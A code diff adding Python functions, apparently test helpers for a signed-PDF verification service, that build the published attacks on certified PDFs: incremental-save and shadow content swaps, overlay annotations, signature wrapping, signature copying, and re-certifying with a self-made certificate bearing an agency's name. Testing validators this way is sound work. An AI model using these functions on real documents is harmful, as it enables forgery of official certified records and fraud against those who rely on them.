@@ -1,0 +1,151 @@
+"""The published attack families on signed PDFs (Mladenov et al. 2019 "1 Trillion Dollar Refund";
+Mainka et al. 2021 "Shadow attacks"; Rohlmann et al. 2021 "Breaking the Specification: certified
+documents"), built against a document the service issued.
+"""
+
+from __future__ import annotations
+
+import datetime as dt
+import io
+import re
+
+from asn1crypto import keys as asn1_keys
+from asn1crypto import x509 as asn1_x509
+from cryptography import x509
+from cryptography.hazmat.primitives import hashes, serialization
+from cryptography.hazmat.primitives.asymmetric import rsa
+from cryptography.x509.oid import NameOID
+from pyhanko.pdf_utils import generic
+from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
+from pyhanko.sign import fields, signers
+from pyhanko_certvalidator.registry import SimpleCertificateStore
+
+
+def _signature_hole(pdf: bytes) -> tuple[int, int]:
+    """Start and end of the hex digits of the (last) signature's /Contents."""
+    *_, match = re.finditer(rb"/Contents\s*<([0-9a-fA-F]{1000,})>", pdf)
+    return match.start(1), match.end(1)
+
+
+def _first_page(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
+    return writer.root["/Pages"]["/Kids"][0].get_object()
+
+
+def _write(writer: IncrementalPdfFileWriter) -> bytes:
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def _text_stream(writer: IncrementalPdfFileWriter, text: bytes) -> generic.IndirectObject:
+    return writer.add_object(generic.StreamObject(stream_data=b"BT /F1 28 Tf 120 620 Td (" + text + b") Tj ET"))
+
+
+def incremental_saving(pdf: bytes) -> bytes:
+    """ISA: an incremental update appends new content to the first page."""
+    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
+    page = _first_page(writer)
+    contents = page["/Contents"]
+    existing = list(contents) if isinstance(contents, generic.ArrayObject) else [page.raw_get("/Contents")]
+    page["/Contents"] = generic.ArrayObject([*existing, _text_stream(writer, b"APPROVED 1000000")])
+    writer.update_container(page)
+    return _write(writer)
+
+
+def shadow_replace(pdf: bytes) -> bytes:
+    """Shadow attack, hide-and-replace: the page's content is swapped for other content in an update."""
+    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
+    page = _first_page(writer)
+    page["/Contents"] = _text_stream(writer, b"FORGED CONTENT")
+    writer.update_container(page)
+    return _write(writer)
+
+
+def evil_annotation(pdf: bytes) -> bytes:
+    """EAA: a FreeText annotation (and a white box hiding text) added after certification."""
+    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
+    page = _first_page(writer)
+    free_text = writer.add_object(generic.DictionaryObject({
+        generic.NameObject("/Type"): generic.NameObject("/Annot"),
+        generic.NameObject("/Subtype"): generic.NameObject("/FreeText"),
+        generic.NameObject("/Rect"): generic.ArrayObject([generic.FloatObject(v) for v in (100, 600, 400, 650)]),
+        generic.NameObject("/Contents"): generic.TextStringObject("已批准 APPROVED"),
+        generic.NameObject("/DA"): generic.TextStringObject("/Helv 24 Tf 0 g"),
+    }))
+    cover = writer.add_object(generic.DictionaryObject({
+        generic.NameObject("/Type"): generic.NameObject("/Annot"),
+        generic.NameObject("/Subtype"): generic.NameObject("/Square"),
+        generic.NameObject("/Rect"): generic.ArrayObject([generic.FloatObject(v) for v in (60, 500, 500, 560)]),
+        generic.NameObject("/IC"): generic.ArrayObject([generic.FloatObject(1)] * 3),
+        generic.NameObject("/C"): generic.ArrayObject([generic.FloatObject(1)] * 3),
+    }))
+    annots = page.get("/Annots")
+    existing = list(annots) if annots is not None else []
+    page["/Annots"] = generic.ArrayObject([*existing, free_text, cover])
+    writer.update_container(page)
+    return _write(writer)
+
+
+def sneaky_signature_field(pdf: bytes) -> bytes:
+    """SSA: a new, visible signature field added after certification to overlay the content."""
+    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
+    fields.append_signature_field(writer, fields.SigFieldSpec(sig_field_name="overlay", on_page=0, box=(50, 400, 550, 700)))
+    return _write(writer)
+
+
+def signature_wrapping(pdf: bytes) -> bytes:
+    """USF/SWA: the signature's /Contents no longer fills the gap between the byte ranges; the room is
+    used for other bytes (here a comment that could hide injected objects), the ranges left as they were."""
+    start, end = _signature_hole(pdf)
+    hex_digits = pdf[start:end]
+    used = len(hex_digits.rstrip(b"0"))
+    used += used % 2
+    injected = hex_digits[:used] + b">%" + b"X" * (len(hex_digits) - used - 2) + b"\n"
+    assert len(injected) == len(hex_digits) + 1  # the hex string's closing '>' is now inside the gap
+    return pdf[:start] + injected + pdf[end + 1 :]
+
+
+def _fake_agency_signer(name: str) -> signers.SimpleSigner:
+    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
+    subject = x509.Name([x509.NameAttribute(NameOID.COUNTRY_NAME, "CN"), x509.NameAttribute(NameOID.ORGANIZATION_NAME, name),
+                         x509.NameAttribute(NameOID.COMMON_NAME, name)])
+    now = dt.datetime.now(dt.timezone.utc)
+    cert = (
+        x509.CertificateBuilder().subject_name(subject).issuer_name(subject).public_key(key.public_key())
+        .serial_number(x509.random_serial_number()).not_valid_before(now - dt.timedelta(days=1))
+        .not_valid_after(now + dt.timedelta(days=365))
+        .add_extension(x509.KeyUsage(digital_signature=True, content_commitment=True, key_encipherment=False,
+                                     data_encipherment=False, key_agreement=False, key_cert_sign=False, crl_sign=False,
+                                     encipher_only=False, decipher_only=False), critical=True)
+        .sign(key, hashes.SHA256())
+    )
+    return signers.SimpleSigner(
+        signing_cert=asn1_x509.Certificate.load(cert.public_bytes(serialization.Encoding.DER)),
+        signing_key=asn1_keys.PrivateKeyInfo.load(
+            key.private_bytes(serialization.Encoding.DER, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())),
+        cert_registry=SimpleCertificateStore(),
+    )
+
+
+def unsigned_original(pdf: bytes) -> bytes:
+    """The revision before the agency's signature: LibreOffice's output, still inside every issued file."""
+    last_eof = pdf.rfind(b"%%EOF", 0, pdf.find(b"/ByteRange"))
+    return pdf[: last_eof + len(b"%%EOF")] + b"\n"
+
+
+def resigned_by_lookalike(pdf: bytes, serial: str, agency_name: str) -> bytes:
+    """The content altered, then certified again with a key whose certificate bears the agency's name."""
+    altered = incremental_saving(unsigned_original(pdf))
+    writer = IncrementalPdfFileWriter(io.BytesIO(altered))
+    meta = signers.PdfSignatureMetadata(field_name="agency", certify=True, docmdp_permissions=fields.MDPPerm.FILL_FORMS,
+                                        reason=f"签发证明事项告知承诺书（登记编号 {serial}）", location=agency_name)
+    return signers.sign_pdf(writer, meta, signer=_fake_agency_signer(agency_name)).getvalue()
+
+
+def copied_signature(target: bytes, donor: bytes) -> bytes:
+    """The agency's signature (the CMS in /Contents) of one document pasted into another."""
+    t_start, t_end = _signature_hole(target)
+    d_start, d_end = _signature_hole(donor)
+    donated = donor[d_start:d_end]
+    assert len(donated) == t_end - t_start
+    return target[:t_start] + donated + target[t_end:]
